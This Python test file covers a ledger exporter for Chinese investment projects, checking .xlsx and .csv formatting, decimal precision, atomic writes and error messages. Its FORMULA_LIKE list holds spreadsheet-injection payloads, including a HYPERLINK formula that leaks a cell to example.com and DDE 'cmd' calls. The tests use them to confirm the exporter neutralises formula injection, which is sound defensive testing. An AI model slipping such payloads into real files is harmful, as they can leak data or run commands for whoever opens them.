"""Exporting the ledger (台账) as .xlsx and .csv in the import template."""

from __future__ import annotations

import csv
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

import db.io.ledger.export as ledger_export
from db.errors import UserError
from db.io.ledger.export import excel_number, export_ledger
from db.io.ledger.template import COLUMNS


def row(**values: Any) -> dict[str, Any]:
    result: dict[str, Any] = dict.fromkeys(COLUMNS)
    result.update(
        {
            "项目编号": "ZS-2023-0001",
            "项目名称": "自动化设备及汽车零部件项目通讯模组、指纹模组项目",
            "投资方": "某电子科技有限公司",
            "内外资": "内资",
            "总投资(万元)": Decimal("7.06"),
            "行业代码": "05",
            "项目阶段": "签约",
            "首次对接日期": date(2023, 3, 1),
            "签约日期": date(2023, 7, 31),
            "建筑面积(平方米)": Decimal("260690.5"),
            "新增就业(人)": 120,
            "责任单位": "开发区",
        }
    )
    result.update(values)
    return result


def test_xlsx_has_the_template_header_bold_and_frozen(tmp_path: Path) -> None:
    out = tmp_path / "台账.xlsx"
    export_ledger([row()], out)

    sheet = load_workbook(out).worksheets[0]
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    widths = {sheet.cell(1, i + 1).column_letter: c for i, c in enumerate(COLUMNS)}
    name_width = sheet.column_dimensions["B"].width
    assert widths["B"] == "项目名称" and 40 <= name_width <= 50  # long name, capped
    assert 8 <= sheet.column_dimensions["A"].width < name_width


def test_xlsx_cells_are_dates_numbers_and_text(tmp_path: Path) -> None:
    out = tmp_path / "台账.xlsx"
    export_ledger([row(需协调问题="=用电增容")], out)

    cells = dict(zip(COLUMNS, load_workbook(out).worksheets[0][2], strict=True))
    signed = cells["签约日期"]
    assert signed.is_date and signed.number_format == "yyyy-mm-dd"
    assert signed.value == datetime(2023, 7, 31)
    assert cells["总投资(万元)"].value == 7.06
    assert cells["建筑面积(平方米)"].value == 260690.5
    assert cells["新增就业(人)"].value == 120
    assert cells["行业代码"].value == "05"
    assert cells["需协调问题"].value == "=用电增容"
    assert cells["需协调问题"].data_type == "s"
    assert cells["投产日期"].value is None


@pytest.mark.parametrize(
    ("amount", "cell"),
    [
        (Decimal("7.06"), 7.06),
        (Decimal("260690.5"), 260690.5),
        (Decimal("2606900"), 2606900),
        (Decimal("9999.99"), 9999.99),
        (Decimal("0.000001"), 0.000001),
        (Decimal("123456789.123456"), 123456789.123456),
        (Decimal("12345678901.123456"), "12345678901.123456"),  # more than Excel keeps
    ],
)
def test_amounts_read_back_exactly(amount: Decimal, cell: int | float | str) -> None:
    written = excel_number(amount)
    assert written == cell and type(written) is type(cell)
    assert Decimal(repr(written) if isinstance(written, float) else str(written)) == amount


def test_csv_is_utf8_with_bom_and_iso_dates(tmp_path: Path) -> None:
    out = tmp_path / "台账.csv"
    export_ledger([row(), row(项目编号="ZS-2023-0002", 签约日期=None)], out)

    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header, first, second = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert header == list(COLUMNS)
    values = dict(zip(COLUMNS, first, strict=True))
    assert values["签约日期"] == "2023-07-31"
    assert values["总投资(万元)"] == "7.06"
    assert values["建筑面积(平方米)"] == "260690.5"
    assert values["新增就业(人)"] == "120"
    assert values["投产日期"] == ""
    assert dict(zip(COLUMNS, second, strict=True))["签约日期"] == ""


@pytest.mark.parametrize("name", ["台账.xls", "台账.pdf", "台账"])
def test_other_extensions_are_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(UserError, match=r"\.xlsx 或 \.csv"):
        export_ledger([row()], tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_a_failed_export_leaves_the_old_file_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "台账.xlsx"
    export_ledger([row()], out)
    before = out.read_bytes()

    def half_written(rows: list[dict[str, Any]], path: Path) -> None:
        path.write_bytes(b"PK\x03\x04 half a file")
        raise RuntimeError("power cut")

    monkeypatch.setattr(ledger_export, "_write_xlsx", half_written)
    with pytest.raises(RuntimeError):
        export_ledger([row(), row()], out)

    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]


def test_a_missing_folder_is_a_user_error(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="文件夹不存在"):
        export_ledger([row()], tmp_path / "没有的文件夹" / "台账.xlsx")


# Text a spreadsheet would run as a formula (OWASP's CSV injection), as people type it.
FORMULA_LIKE = [
    '=HYPERLINK("http://example.com/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+86 138 0000 0000",
    "-5%,同比下降",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=已有撇号",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_csv_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path, text: str) -> None:
    out = tmp_path / "台账.csv"
    export_ledger([row(备注=text, 责任人=text)], out)

    with out.open(encoding="utf-8-sig", newline="") as handle:
        _, written = list(csv.reader(handle))
    values = dict(zip(COLUMNS, written, strict=True))
    assert values["备注"] == values["责任人"] == "'" + text
    # Numbers and dates stay as they are: no apostrophe before them.
    assert (values["总投资(万元)"], values["签约日期"]) == ("7.06", "2023-07-31")


# (A carriage return inside an .xlsx cell reads back as a line feed: XML's own rule.)
@pytest.mark.parametrize("text", [t for t in FORMULA_LIKE if not t.startswith("\r")])
def test_xlsx_text_that_looks_like_a_formula_is_a_text_cell(tmp_path: Path, text: str) -> None:
    out = tmp_path / "台账.xlsx"
    export_ledger([row(备注=text)], out)

    cells = dict(zip(COLUMNS, load_workbook(out).worksheets[0][2], strict=True))
    remark = cells["备注"]
    shown = "'" + text if text.startswith("'") else text  # the import takes one off
    assert (remark.value, remark.data_type) == (shown, "s")
    assert remark.quotePrefix  # shown as text, and kept text when the cell is edited
    assert (cells["总投资(万元)"].data_type, cells["总投资(万元)"].value) == ("n", 7.06)
    assert not cells["项目名称"].quotePrefix


def test_a_text_the_xlsx_format_cannot_hold_is_refused_by_name(tmp_path: Path) -> None:
    out = tmp_path / "台账.xlsx"
    with pytest.raises(UserError, match="“备注”含有控制字符") as refused:
        export_ledger([row(备注="电源\x00故障")], out)
    assert "自动化设备及汽车零部件项目通讯模组、指纹模组项目" in refused.value.zh
    assert list(tmp_path.iterdir()) == []


def test_a_stored_value_the_program_never_writes_is_named_not_a_lock(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An invalid stage once made export-ledger say "database table is locked"."""
    from db.io.ledger.export import ledger_rows
    from db.io.ledger.importing import import_rows
    from db.records.files import create_unit_file
    from db.store.connection import database
    from desktop.cli import main as zhaoshang
    from tests.db.test_ledger_import import ledger_row

    path = tmp_path / "unit.zsdb"
    store = create_unit_file(path, "上海驻点招商办").make_default()
    import_rows([(2, ledger_row(项目名称=f"项目{i}")) for i in range(3)], "台账.csv")
    database.execute_sql("UPDATE project SET stage = 'bogus' WHERE name = '项目1'")
    with store.reading(), pytest.raises(UserError, match=r"项目“项目1”.*“项目阶段”为“bogus”"):
        ledger_rows()
    with store.writing():  # nothing was left open
        database.execute_sql("UPDATE project SET stage = 'signed' WHERE name = '项目2'")
    store.close()

    assert zhaoshang(["export-ledger", str(path), str(tmp_path / "台账.xlsx")]) == 2
    error = capsys.readouterr().err
    assert "项目1" in error and "bogus" in error
    assert "locked" not in error and "内部错误" not in error
    assert not (tmp_path / "台账.xlsx").exists()
